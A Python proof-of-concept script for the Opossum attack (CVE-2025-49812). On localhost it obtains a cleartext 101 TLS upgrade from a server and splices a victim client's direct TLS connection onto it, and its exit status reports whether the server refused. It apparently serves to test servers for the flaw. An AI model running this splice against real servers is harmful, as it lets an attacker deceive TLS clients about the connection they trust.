#!/usr/bin/env python3
"""The Opossum attack (CVE-2025-49812): a client that speaks TLS at once is joined to a connection that was upgraded.

    splice.py --to PORT --cacert FILE

Exit status: 0 where the server refused, 1 where the victim was deceived, 2 where the attack could not begin.
"""

import argparse
import socket
import ssl
import sys
import threading

seconds = 10


def attack(listener, port, seen):
    """Gets a 101 in clear, then joins the victim's connection to what follows it."""
    server = socket.create_connection(("127.0.0.1", port), timeout=seconds)
    offer = b"OPTIONS * HTTP/1.1\r\nHost: localhost\r\nUpgrade: TLS/1.2\r\nConnection: Upgrade\r\n\r\n"
    for line in offer.decode().split("\r\n"):
        print(f"attacker > {line}".rstrip())
    server.sendall(offer)
    answer = b""
    while b"\r\n\r\n" not in answer and (data := server.recv(1)):
        answer += data
    for line in answer.decode("latin-1").split("\r\n"):
        print(f"attacker < {line}".rstrip())
    seen["switched"] = answer.startswith(b"HTTP/1.1 101 ")
    victim, _ = listener.accept()
    print("attacker * joins the victim, who asked for TLS at once, to this connection")
    threading.Thread(target=relay, args=(victim, server), daemon=True).start()
    relay(server, victim, seen)


def relay(source, target, seen=None):
    try:
        while data := source.recv(65536):
            if seen is not None:
                seen["down"] += data
            target.sendall(data)
        target.shutdown(socket.SHUT_WR)
    except OSError:
        pass


def main():
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--to", type=int, required=True)
    parser.add_argument("--cacert", required=True)
    options = parser.parse_args()
    seen = {"switched": False, "down": b""}
    listener = socket.create_server(("127.0.0.1", 0))
    attacker = threading.Thread(target=attack, args=(listener, options.to, seen), daemon=True)
    attacker.start()

    context = ssl.create_default_context(cafile=options.cacert) # the victim trusts the server: that is the point
    context.set_alpn_protocols(["http/1.1"])
    deceived = False
    try:
        with socket.create_connection(listener.getsockname(), timeout=seconds) as plain:
            with context.wrap_socket(plain, server_hostname="localhost") as secure:
                deceived = True
                secure.sendall(b"GET /cat.html HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n")
                print(f"victim   < {secure.recv(65536)!r}")
    except OSError as error:
        print(f"victim   * {'after the handshake' if deceived else 'no handshake'}: {error}")
    attacker.join(seconds)

    down = seen["down"]
    if down[:1] == b"\x15" and len(down) == 7:
        name = " (no_application_protocol)" if down[6] == 120 else ""
        print(f"server   * sent the victim nothing but TLS alert {down[6]}{name}")
    if not seen["switched"]:
        return 2
    return 1 if deceived else 0


if __name__ == "__main__":
    sys.exit(main())
